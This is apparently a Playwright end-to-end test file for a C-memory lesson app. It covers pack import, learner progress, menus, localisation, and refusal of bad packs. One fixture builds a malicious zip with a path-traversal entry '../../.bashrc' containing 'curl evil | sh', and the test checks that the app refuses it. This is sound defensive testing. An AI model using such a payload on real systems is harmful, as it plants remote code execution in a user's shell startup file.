/**
 * Lessons in the browser edition, driven like a learner and an instructor: import a pack with
 * the file picker, answer a checkpoint wrongly then rightly, reopen the app and resume at the
 * same step with the result kept; a second learner sees none of the first one's progress; a
 * malicious pack is refused with its reason. Screenshots go to test-results/screenshots/.
 */
import { cpSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { zipSync } from 'fflate'
import type { Page } from '@playwright/test'
import { writeMlpack } from '../electron/services/lesson-library/mlpack'
import { readPackFolder } from '../electron/services/lesson-library/pack-folder'
import AxeBuilder from './axe'
import { becomeLearner, expect, screenshot, test } from './fixtures'

const packs = join(tmpdir(), `memory-lane-e2e-packs-${process.pid}`)
mkdirSync(packs, { recursive: true })
const samplePack = join(packs, 'sample-pack.mlpack')
writeFileSync(
  samplePack,
  writeMlpack(readPackFolder(join(import.meta.dirname, '../shared/lessons/fixtures/sample-pack')))
)
const evilPack = join(packs, 'evil.mlpack')
writeFileSync(
  evilPack,
  zipSync({
    'pack.yaml': new TextEncoder().encode('id: evil\n'),
    '../../.bashrc': new TextEncoder().encode('curl evil | sh\n')
  })
)
// A pack whose first program does not compile (`size` is never declared): the validator alone
// accepted it, `memory-lane pack validate` did not; the app's import now runs the same check.
const brokenCPack = join(packs, 'broken-c.mlpack')
const brokenCFiles = readPackFolder(
  join(import.meta.dirname, '../shared/lessons/fixtures/sample-pack')
)
brokenCFiles.set(
  'first-malloc.en.md',
  new TextEncoder().encode(
    new TextDecoder()
      .decode(brokenCFiles.get('first-malloc.en.md'))
      .replace('  char *p = malloc(24);', '  char *p = size;')
  )
)
writeFileSync(brokenCPack, writeMlpack(brokenCFiles))
// A pack whose check takes long: four more steps, each a task whose reference solution fills a
// megabyte in an endless loop, stopped only by the 5 s each program may run (each distinct, so
// none is taken from the check's cache): about 20 s of checking in all.
const slowPack = join(packs, 'slow.mlpack')
const slowFiles = readPackFolder(
  join(import.meta.dirname, '../shared/lessons/fixtures/sample-pack')
)
for (const file of ['first-malloc.en.md', 'first-malloc.zh-CN.md']) {
  const spinning = [1, 2, 3, 4].map(
    (k) =>
      `\n---\n\n## Spin ${k}\n\n\`\`\`checkpoint\nkind: task\nid: spin-${k}\nprompt: Spin.\ncondition: exit.status == ${k}\nsolution: |\n  #include <string.h>\n  static char buffer[1 << 20];\n  int main(void) {\n    for (;;) memset(buffer, ${k}, sizeof buffer);\n    return ${k};\n  }\n\`\`\`\n`
  )
  slowFiles.set(
    file,
    new TextEncoder().encode(new TextDecoder().decode(slowFiles.get(file)) + spinning.join(''))
  )
}
slowFiles.set(
  'pack.yaml',
  new TextEncoder().encode(
    new TextDecoder().decode(slowFiles.get('pack.yaml')).replace('id: sample-pack', 'id: slow-pack')
  )
)
writeFileSync(slowPack, writeMlpack(slowFiles))

/** Imports the sample pack with the file picker (replacing it when a test already did). */
async function importSamplePack(page: Page): Promise<void> {
  const pane = page.getByTestId('lesson-pane')
  await pane.getByTestId('pack-file').setInputFiles(samplePack)
  const confirm = pane.getByTestId('pack-confirm')
  const message = pane.getByTestId('pack-message')
  await expect(confirm.or(message)).toBeVisible()
  if (await confirm.isVisible()) await pane.getByTestId('pack-replace').click()
  await expect(message).toContainText(/Imported “Sample pack” \(1 lesson\)|Replaced “Sample pack”/)
  await expect(pane.getByTestId('lesson-sample-pack-first-malloc')).toBeVisible()
}

// axe-core is injected into the page, which the app's CSP rightly forbids without this.
test.use({ bypassCSP: true })

test('a learner answers wrongly then rightly, reopens the app and resumes with the result kept', async ({
  app
}) => {
  const { page } = app
  await becomeLearner(page, 'Ada')
  await screenshot(page, 'lessons-library-empty')
  await importSamplePack(page)
  await screenshot(page, 'lessons-library')
  const pane = page.getByTestId('lesson-pane')
  await pane.getByTestId('lesson-sample-pack-first-malloc').click()
  await expect(pane.getByTestId('step-position')).toHaveText('Step 1 of 4')
  // The step put its program in the editor, paused before line 4.
  await expect(page.locator('.cm-content')).toContainText('char *p = malloc(24);')

  const choice = pane.getByTestId('checkpoint-where-is-p')
  await choice.getByTestId('option-where-is-p-1').check()
  await choice.getByTestId('submit-where-is-p').click()
  await expect(choice.getByTestId('verdict-where-is-p')).toContainText('Not quite — try again.')
  await expect(choice.getByTestId('verdict-where-is-p')).toContainText('lives on the stack')
  await screenshot(page, 'lessons-choice-wrong')
  await choice.getByTestId('option-where-is-p-0').check()
  await choice.getByTestId('submit-where-is-p').click()
  await expect(choice.getByTestId('verdict-where-is-p')).toContainText('Correct!')
  await expect(choice).toContainText('2 attempts')
  await screenshot(page, 'lessons-choice-right')

  // On to step 2, and a hint, then close and reopen the app.
  await pane.getByTestId('step-next').click()
  await expect(pane.getByTestId('step-position')).toHaveText('Step 2 of 4')
  await pane.getByTestId('hint-button-block-size').click()
  await expect(pane.getByTestId('hint-block-size-0')).toHaveText('Look at the heap view.')
  await page.reload()
  await expect(pane.getByTestId('step-position')).toHaveText('Step 2 of 4')
  await expect(pane.getByTestId('hint-block-size-0')).toHaveText('Look at the heap view.')
  // The step's machine is set up again: paused before line 5, after the malloc.
  await expect(page.locator('.memory-pane')).toBeVisible()
  await screenshot(page, 'lessons-resumed')

  // The number checkpoint: the program asked malloc for 24 bytes.
  const number = pane.getByTestId('checkpoint-block-size')
  await number.getByTestId('answer-block-size').fill('32')
  await number.getByTestId('submit-block-size').click()
  await expect(number.getByTestId('verdict-block-size')).toContainText('Not quite')
  await number.getByTestId('answer-block-size').fill('0x18')
  await number.getByTestId('submit-block-size').click()
  await expect(number.getByTestId('verdict-block-size')).toContainText('Correct!')

  // Back on step 1 the earlier result is still there.
  await pane.getByTestId('step-previous').click()
  await expect(pane.getByTestId('checkpoint-where-is-p')).toContainText('Passed')
  await expect(pane.getByTestId('checkpoint-where-is-p')).toContainText('2 attempts')

  // axe over the page; only what lies inside the lesson pane is this pane's to answer for.
  const results = await new AxeBuilder(page).analyze()
  const inPane: string[] = []
  for (const violation of results.violations)
    for (const node of violation.nodes) {
      const selector = node.target.map(String).join(' ')
      const inside = await page
        .locator(selector)
        .first()
        .evaluate((el) => el.closest('[data-testid="lesson-pane"]') !== null)
        .catch(() => false)
      if (inside) inPane.push(`${violation.id}: ${violation.help} (${selector})`)
    }
  expect(inPane).toEqual([])
})

test('a second learner sees none of the first one’s progress', async ({ app }) => {
  const { page } = app
  const pane = page.getByTestId('lesson-pane')
  await expect(
    pane.getByTestId('profile-button').or(pane.getByTestId('profile-form'))
  ).toBeVisible()
  if (await pane.getByTestId('profile-form').isVisible()) {
    await becomeLearner(page, 'Ada')
    await importSamplePack(page)
  }
  await becomeLearner(page, 'Bo')
  await expect(pane.getByTestId('lesson-sample-pack-first-malloc')).toContainText('Not started')
  await pane.getByTestId('lesson-sample-pack-first-malloc').click()
  await expect(pane.getByTestId('step-position')).toHaveText('Step 1 of 4')
  await expect(pane.getByTestId('verdict-where-is-p')).toHaveCount(0)
  await expect(pane.getByTestId('checkpoint-where-is-p')).not.toContainText('attempt')
  await screenshot(page, 'lessons-second-learner')

  // Two clicks back to Ada, who is where she left off.
  await pane.getByTestId('profile-button').click()
  await pane.getByTestId('profile-Ada').click()
  await expect(pane.getByTestId('profile-button')).toContainText('Ada')

  // Her progress, exported for the instructor as a spreadsheet.
  await pane.getByTestId('progress-open').click()
  await expect(pane.getByTestId('progress-view')).toBeVisible()
  await screenshot(page, 'lessons-progress')
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    pane.getByTestId('export-csv').click()
  ])
  expect(download.suggestedFilename()).toBe('memory-lane-progress-Ada.csv')
  const csv = await (await download.createReadStream()).toArray()
  const rows = Buffer.concat(csv).toString('utf8').split('\r\n')
  expect(rows[0]).toBe(
    'learner,pack,lesson,checkpoint,status,attempts,hintsUsed,answerRevealed,secondsSpent,updatedAt'
  )
  expect(
    rows.some((row) => row.startsWith('Ada,sample-pack,first-malloc,where-is-p,passed,'))
  ).toBe(true)
})

test('the learners menu works as a menu: keys move in it, Escape or a click elsewhere closes it', async ({
  app
}) => {
  const { page } = app
  const pane = page.getByTestId('lesson-pane')
  await expect(
    pane.getByTestId('profile-button').or(pane.getByTestId('profile-form'))
  ).toBeVisible()
  if (await pane.getByTestId('profile-form').isVisible()) await becomeLearner(page, 'Kay')
  const button = pane.getByTestId('profile-button')
  const menu = pane.getByRole('menu', { name: 'Learners on this computer' })
  await button.focus()
  await page.keyboard.press('Enter')
  // the keyboard is on the learner now active; End and Up move among the items
  await expect(menu.locator('[aria-checked="true"]')).toBeFocused()
  await page.keyboard.press('End')
  await expect(pane.getByTestId('profile-new')).toBeFocused()
  await page.keyboard.press('ArrowDown')
  await expect(menu.getByRole('menuitemradio').first()).toBeFocused()
  await page.keyboard.press('ArrowUp')
  await expect(pane.getByTestId('profile-new')).toBeFocused()
  // Escape closes it and gives the keyboard back to its button (it stayed open)
  await page.keyboard.press('Escape')
  await expect(menu).toHaveCount(0)
  await expect(button).toBeFocused()
  // a click elsewhere closes it (it stayed open over the lesson list)
  await button.click()
  await expect(menu).toBeVisible()
  await page.getByText('See how a running program uses memory').click()
  await expect(menu).toHaveCount(0)
  // "New learner…" closes it: left open, it hung over the form below
  await button.click()
  const learners = await menu.getByRole('menuitemradio').count()
  await pane.getByTestId('profile-new').click()
  await expect(menu).toHaveCount(0)
  await expect(pane.getByTestId('profile-name')).toBeFocused()
  await screenshot(page, 'lessons-new-learner-form')
  // A name already on this computer, in other letter case, is not made a second learner: two
  // of one name in the menu could not be told apart.
  const active = (await button.locator('.name').textContent())!.trim()
  await pane.getByTestId('profile-name').fill(` ${active.toUpperCase()} `)
  await pane.getByTestId('profile-create').click()
  await expect(pane.getByTestId('profile-name-taken')).toHaveText(
    `A learner called ${active} is already on this computer. If that is you, pick ${active} from the learners menu; if not, add something that tells you apart, such as your surname’s initial.`
  )
  await expect(pane.getByTestId('profile-name')).toBeFocused()
  await page.getByTestId('language').selectOption('zh-CN')
  await expect(pane.getByTestId('profile-name-taken')).toContainText(
    `已经有一位叫 ${active} 的学习者`
  )
  await screenshot(page, 'lessons-learner-name-taken-zh')
  await page.getByTestId('language').selectOption('en')
  // typing on clears it; no learner was added
  await pane.getByTestId('profile-name').fill(`${active} K.`)
  await expect(pane.getByTestId('profile-name-taken')).toHaveCount(0)
  await pane.getByRole('button', { name: 'Cancel' }).click()
  await expect(pane.getByTestId('profile-form')).toHaveCount(0)
  await button.click()
  await expect(menu.getByRole('menuitemradio')).toHaveCount(learners)
  await page.keyboard.press('Escape')
})

test('a malicious pack is refused with its reason and nothing is installed', async ({ app }) => {
  const { page } = app
  const pane = page.getByTestId('lesson-pane')
  await expect(
    pane.getByTestId('profile-button').or(pane.getByTestId('profile-form'))
  ).toBeVisible()
  if (await pane.getByTestId('profile-form').isVisible()) await becomeLearner(page, 'Cy')
  if (await pane.getByTestId('lesson-view').isVisible())
    await pane.getByTestId('lesson-back').click()
  await pane.getByTestId('pack-file').setInputFiles(evilPack)
  // The main side's sentence in the page's words (app.main.pack.leavesFolder), and in Chinese
  // for a Chinese learner.
  await expect(pane.getByTestId('pack-message')).toHaveText(
    'The pack contains a path that leaves its folder (“../../.bashrc”); it was refused.'
  )
  await expect(pane.getByTestId('lesson-list')).not.toContainText('evil')
  await screenshot(page, 'lessons-malicious-refused')
  await page.getByTestId('language').selectOption('zh-CN')
  await pane.getByTestId('pack-file').setInputFiles(evilPack)
  await expect(pane.getByTestId('pack-message')).toHaveText(
    '课程包中含有指向包外的路径（“../../.bashrc”），已拒绝导入。'
  )
  await screenshot(page, 'lessons-malicious-refused-zh-CN')
  // A program that does not compile: where it is (file:line:column, line 4 of the program is
  // line 19 of the lesson), the whole sentence in the learner's language, the compiler's part
  // from its own message key as the app says a learner's compile error.
  await pane.getByTestId('pack-file').setInputFiles(brokenCPack)
  await expect(pane.getByTestId('pack-message')).toContainText(
    '课程包“broken-c.mlpack”被拒绝导入：'
  )
  await expect(pane.getByTestId('pack-message')).toContainText(
    'first-malloc.en.md:19:13: C 程序无法编译：`size` 未声明。请先声明再使用。'
  )
  await screenshot(page, 'lessons-broken-c-refused-zh-CN')
  await page.getByTestId('language').selectOption('en')
  await pane.getByTestId('pack-file').setInputFiles(brokenCPack)
  await expect(pane.getByTestId('pack-message')).toContainText(
    `The pack “broken-c.mlpack” was refused:`
  )
  await expect(pane.getByTestId('pack-message')).toContainText(
    'first-malloc.en.md:19:13: the C program does not compile: `size` is not declared. Declare it before using it.'
  )
  await screenshot(page, 'lessons-broken-c-refused')
})

test('a pack being checked shows how far the check has got, and Cancel stops it', async ({
  app
}) => {
  const { page } = app
  const pane = page.getByTestId('lesson-pane')
  await expect(
    pane.getByTestId('profile-button').or(pane.getByTestId('profile-form'))
  ).toBeVisible()
  if (await pane.getByTestId('profile-form').isVisible()) await becomeLearner(page, 'Eve')
  if (await pane.getByTestId('lesson-view').isVisible())
    await pane.getByTestId('lesson-back').click()
  await pane.getByTestId('pack-file').setInputFiles(slowPack)
  // The check runs in a worker: the page hears its progress (N of 16 steps checked, 8 in each of
  // two languages) while the server goes on answering, here the lesson list.
  const checking = pane.getByTestId('pack-checking')
  await expect(checking).toContainText(
    /Checking the pack: \d+ of 16 steps checked, now first-malloc\.en\.md/
  )
  await expect(checking.locator('progress')).toHaveAttribute('max', '16')
  // Brought into view: it appears under the import button, below the lesson list's fold.
  await expect(pane.getByTestId('pack-cancel')).toBeInViewport()
  await page.getByTestId('language').selectOption('zh-CN')
  await expect(checking).toContainText(
    /正在检查课程包：已检查 \d+\/16 步，正在检查 first-malloc\.en\.md/
  )
  await screenshot(page, 'lessons-pack-checking-zh-CN')
  await page.getByTestId('language').selectOption('en')
  await expect(pane.getByTestId('lesson-memory-lane-basics-address-space')).toBeVisible()
  await screenshot(page, 'lessons-pack-checking')
  await pane.getByTestId('pack-cancel').click()
  await expect(pane.getByTestId('pack-message')).toHaveText(
    'Checking the pack was cancelled; nothing was imported.'
  )
  await expect(checking).toBeHidden()
  await expect(pane.getByTestId('lesson-list')).not.toContainText('slow-pack')
  await screenshot(page, 'lessons-pack-check-cancelled')
})

test('an instructor authors a pack in a folder and sees each save checked', async ({ app }) => {
  const { page } = app
  const pane = page.getByTestId('lesson-pane')
  await expect(
    pane.getByTestId('profile-button').or(pane.getByTestId('profile-form'))
  ).toBeVisible()
  if (await pane.getByTestId('profile-form').isVisible()) await becomeLearner(page, 'Dee')
  if (await pane.getByTestId('lesson-view').isVisible())
    await pane.getByTestId('lesson-back').click()
  const folder = join(packs, 'draft')
  cpSync(join(import.meta.dirname, '../shared/lessons/fixtures/sample-pack'), folder, {
    recursive: true
  })
  const manifest = join(folder, 'pack.yaml')
  writeFileSync(
    manifest,
    readFileSync(manifest, 'utf8').replace('id: sample-pack', 'id: draft-pack')
  )

  await pane.getByTestId('authoring').locator('summary').click()
  await pane.getByTestId('authoring-folder').fill(folder)
  await pane.getByTestId('authoring-watch').click()
  await expect(pane.getByTestId('authoring-report')).toContainText('The pack is valid.')
  await expect(pane.getByTestId('lesson-draft-pack-first-malloc')).toBeVisible()

  // A save with a mistake: the problem appears with its place in the file.
  const lesson = join(folder, 'first-malloc.en.md')
  const text = readFileSync(lesson, 'utf8')
  const line = text.split('\n').indexOf('kind: choice') + 1
  writeFileSync(lesson, text.replace('kind: choice', 'kind: essay'))
  await expect(pane.getByTestId('authoring-report')).toContainText(
    `first-malloc.en.md:${line}:7: unknown checkpoint kind "essay" (expected choice, number, predict or task)`
  )
  await pane.getByTestId('authoring-report').scrollIntoViewIfNeeded()
  await screenshot(page, 'lessons-authoring')
  // A save whose C does not compile is said as it is saved, not only at import: line 4 of the
  // program is line 19 of the lesson, `size` at column 13 (gcc 12 says 4:13 too).
  writeFileSync(lesson, text.replace('  char *p = malloc(24);', '  char *p = size;'))
  await expect(pane.getByTestId('authoring-report')).toContainText(
    'first-malloc.en.md:19:13: the C program does not compile: `size` is not declared. Declare it before using it.'
  )
  await pane.getByTestId('authoring-report').scrollIntoViewIfNeeded()
  await screenshot(page, 'lessons-authoring-c')
  writeFileSync(lesson, text)
  await expect(pane.getByTestId('authoring-report')).toContainText('The pack is valid.')
})

test('a stuck learner on a small screen, in Chinese: the answer field fits, and the answer can be shown', async ({
  app
}) => {
  const { page } = app
  await page.setViewportSize({ width: 1024, height: 640 })
  await becomeLearner(page, '小红')
  const pane = page.getByTestId('lesson-pane')
  // The pack's "Built-in" tag stays on one line beside the title (it broke into Built- / in).
  const tag = pane.getByTestId('lesson-list').locator('.tag').first()
  await expect(tag).toHaveText('Built-in')
  expect((await tag.boundingBox())!.height).toBeLessThan(
    1.5 * (await tag.evaluate((e) => parseFloat(getComputedStyle(e).lineHeight) || 16))
  )
  await page.getByTestId('language').selectOption('zh-CN')
  // The page itself does not scroll, each pane does: the file input below the lesson list made
  // the page 25 px taller than the window, and the whole app could slide up under the header.
  expect(await page.evaluate(() => document.documentElement.scrollHeight - innerHeight)).toBe(0)
  await pane.getByTestId('lesson-memory-lane-basics-address-space').click()
  await pane.getByTestId('step-next').click()
  await pane.getByTestId('step-next').click()
  const card = pane.getByTestId('checkpoint-text-start')
  await expect(card).toBeVisible()
  // The step runs its program to line 13 (step 4) before it can be answered.
  await expect(page.getByTestId('step-counter')).toContainText('第 4 步')
  await expect(page.getByTestId('lesson-view')).toHaveAttribute('aria-busy', 'false')
  // The label and the unit keep their words on one line: in the ~240 px lesson pane a
  // fixed-width input squeezed them to one character per line (你/的/答/案).
  const lineHeight = await card
    .locator('.number label')
    .evaluate((e) => parseFloat(getComputedStyle(e).lineHeight) || 24)
  for (const part of [card.locator('.number label'), card.getByTestId('unit-text-start')]) {
    const box = (await part.boundingBox())!
    expect(box.height).toBeLessThan(1.5 * lineHeight)
  }
  await card.getByTestId('answer-text-start').fill('0x1000')
  await card.getByTestId('submit-text-start').click()
  await expect(card.getByTestId('verdict-text-start')).toContainText('还不对')
  await card.getByTestId('reveal-text-start').click()
  // PIE text on linux-x86_64 with ASLR off: loaded at 0x555555554000, the code one page later.
  await expect(card.getByTestId('revealed-text-start')).toHaveText('答案是 0x555555555000。')
  await screenshot(page, 'lesson-answer-shown-zh-1024')
  // The stack view's column headings stay on one line in the narrow memory pane: beside values
  // such as 0x5555555592a0 → 0x5555555592a0 处的块, 名称 broke into 名 / 称.
  await pane.getByTestId('lesson-back').click()
  await pane.getByTestId('lesson-memory-lane-basics-stack-and-heap-values').click()
  await pane.getByTestId('step-next').click()
  await pane.getByTestId('step-next').click()
  await expect(pane.getByTestId('step-position')).toHaveText('第 3 步，共 6 步')
  // paused before line 12: p and q both hold the block's address
  await expect(page.getByTestId('step-counter')).toContainText('第 6 步')
  await page.getByRole('tab', { name: '栈' }).click()
  await expect(page.locator('.stack-view .variables td').first()).toBeVisible()
  const heading = page.locator('.stack-view .variables thead th').first()
  await expect(heading).toHaveText('名称')
  const headingHeight = (await heading.boundingBox())!.height
  expect(headingHeight).toBeLessThan(
    1.5 * (await heading.evaluate((e) => parseFloat(getComputedStyle(e).lineHeight) || 18))
  )
  // The card of what the process started with keeps its addresses inside it.
  // The view is drawn again when the run's later states arrive, so the card is looked up afresh
  // until one check sees it whole (a scroll on an element just replaced failed in CI).
  const startUp = page.locator('.stack-view .start-up')
  await expect(async () => {
    const overflow = await startUp.evaluate((e) => {
      e.scrollIntoView({ block: 'nearest' })
      return e.scrollWidth - e.clientWidth
    })
    expect(overflow).toBeLessThanOrEqual(0)
  }).toPass({ timeout: 10_000 })
  await screenshot(page, 'lesson-stack-zh-1024')
  // The byte inspector's owners stay inside the pane: in a column they ran 206 px past its edge,
  // cut off; here they go under each row, which is 8 bytes.
  await page.getByRole('tab', { name: '字节' }).click()
  const bytes = page.locator('.byte-inspector')
  await expect(bytes.locator('td.owners').first()).toContainText('处的块')
  const paneRight = (await page.locator('.memory-pane').boundingBox())!
  for (const owner of await bytes.locator('td.owners').all()) {
    const box = (await owner.boundingBox())!
    expect(box.x + box.width).toBeLessThanOrEqual(paneRight.x + paneRight.width)
  }
  await expect(bytes.locator('tbody tr').first().locator('.cell')).toHaveCount(8)
  // ...in the bundled Chinese face: system-ui has none here, and 处的块 was empty boxes (as was
  // the stack and pointer views' monospace text)
  for (const text of [bytes.locator('td.owners').first(), bytes.locator('thead th').first()])
    expect(await text.evaluate((e) => getComputedStyle(e).fontFamily)).toContain('Noto Sans SC')
  await screenshot(page, 'lesson-bytes-zh-1024')
})
